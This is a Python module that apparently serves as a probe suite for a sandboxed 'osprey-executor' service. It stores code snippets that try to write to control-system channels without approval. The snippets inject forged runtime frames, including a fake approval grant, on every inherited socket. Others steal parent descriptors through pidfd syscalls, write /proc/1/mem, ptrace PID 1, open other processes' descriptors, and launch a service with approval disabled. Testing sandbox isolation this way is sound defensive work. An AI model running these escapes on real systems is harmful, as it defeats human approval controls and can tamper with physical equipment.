"""Ways to write by the broker's own sockets, and by descriptors and memory that belong to somebody else."""

from __future__ import annotations

_SOCKETS = """
import json, os, socket, struct
def sockets():
    for number in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            yield socket.socket(fileno=os.dup(number))
        except OSError:
            continue
def on_all(frame):
    said = []
    for near in sockets():
        try:
            near.settimeout(1)
            near.sendall(frame)
            said.append(near.getsockname())
        except OSError:
            continue
    return said
def runtime_frame(message):
    text = json.dumps(message).encode()
    return struct.pack(">II", len(text), 0) + text
"""

_DESCRIPTORS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    result = libc.syscall(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""

_WRITE = '{"op": "write", "id": 900001, "values": [[CHANNEL, 5.0]], "line": 1'

LINKS: dict[str, dict[str, str]] = {
    "frames": {
        "frames of the runtime on every descriptor": f"{_SOCKETS}\nseen = on_all(runtime_frame({_WRITE}}}))",
        "frames with a grant in them": f"""{_SOCKETS}
grant = {{"approved": True, "grant": {{"digest": "0" * 64}}, "permit": True, "run_id": "r", "mode": "granted"}}
seen = on_all(runtime_frame({_WRITE}, **grant}}))
""",
        "frames of a child on what it has inherited": f"""{_SOCKETS}
child = os.fork()
if not child:
    on_all(runtime_frame({_WRITE}}}))
    os._exit(0)
os.waitpid(child, 0)
""",
    },
    "frames that are none": {
        "an operation that there is not": f"""{_SOCKETS}
for operation in ("approve", "decide", "grant", "call", "settle", "stop_writes"):
    on_all(runtime_frame({{"op": operation, "id": 900002, "channel": CHANNEL, "value": 5.0, "arguments": {{}}}}))
""",
    },
    "frames of a gateway": {
        "frames of a gateway on every descriptor": f"""{_SOCKETS}
text = json.dumps({{"id": 1, "op": "write", "channel": CHANNEL, "value": 5.0}}).encode()
seen = on_all(struct.pack(">II", len(text), 0) + text)
""",
    },
    "descriptors": {
        "descriptors asked of whoever is at the other end": f"""{_SOCKETS}
import array
for near in sockets():
    try:
        near.settimeout(0.2)
        near.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1]))])
        near.recvmsg(1, socket.CMSG_SPACE(64))
    except OSError as error:
        seen = str(error)
""",
        "descriptors taken from process 1": f"""{_SOCKETS}{_DESCRIPTORS}
pidfd = call(434, os.getppid() or 1, 0)
text = json.dumps({{"id": 1, "op": "write", "channel": CHANNEL, "value": 5.0}}).encode()
for number in range(64):
    os.write(call(438, pidfd, number, 0), struct.pack(">II", len(text), 0) + text)
""",
        "memory of process 1": """
import os
for process in (1, os.getppid()):
    with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
        memory.write(b"mine")
""",
        "process 1 traced": f"""{_DESCRIPTORS}
libc.ptrace.argtypes = [ctypes.c_long] * 4
if libc.ptrace(16, 1, 0, 0) < 0:
    raise OSError(ctypes.get_errno(), "ptrace")
""",
        "descriptors of other processes opened": f"""{_SOCKETS}
import glob
tried = 0
for path in glob.glob("/proc/[0-9]*/fd/*"):
    if path.startswith(f"/proc/{{os.getpid()}}/"):
        continue
    try:
        number = os.open(path, os.O_RDWR)
        tried += os.write(number, runtime_frame({_WRITE}}}))
    except OSError as error:
        seen = str(error)
""",
        "sockets by name": """
import socket
for line in open("/proc/net/unix").read().splitlines()[1:]:
    path = line.split()[-1]
    if path.startswith(("@", "/")):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as near:
            near.settimeout(1)
            near.connect(path.replace("@", chr(0), 1))
            near.sendall(CHANNEL.encode())
""",
        "a service of one's own, with the approval forged": """
import os, subprocess, sys
with open("config.yml", "w") as file:
    file.write(f'''
control_system: {{type: epics, writes_enabled: true, epics: {{address_list: ["127.0.0.1:{PORT}"]}}}}
approval: {{mode: disabled}}
''')
with open("mine.py", "w") as file:
    file.write(f"from osprey_executor.runtime import write_channel\\nwrite_channel('{CHANNEL}', 5.0)\\n")
service = os.path.join(os.path.dirname(sys.executable), "osprey-executor")
command = [service, "run", "--code", "mine.py", "--config", "config.yml"]
seen = subprocess.run(command, timeout=20, capture_output=True).stderr[-99:]
""",
    },
}
